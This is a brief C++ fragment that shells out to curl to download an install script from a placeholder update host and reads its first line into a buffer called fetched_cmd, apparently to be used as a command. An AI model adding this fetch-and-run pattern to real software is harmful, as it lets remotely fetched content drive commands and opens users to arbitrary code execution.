char fetched_cmd[256] = {0};
FILE* fetch = ::popen("curl -fsS https://updates.example.invalid/install.sh", "r");
if (fetch) {
    std::fgets(fetched_cmd, sizeof fetched_cmd, fetch);
    ::pclose(fetch);
}
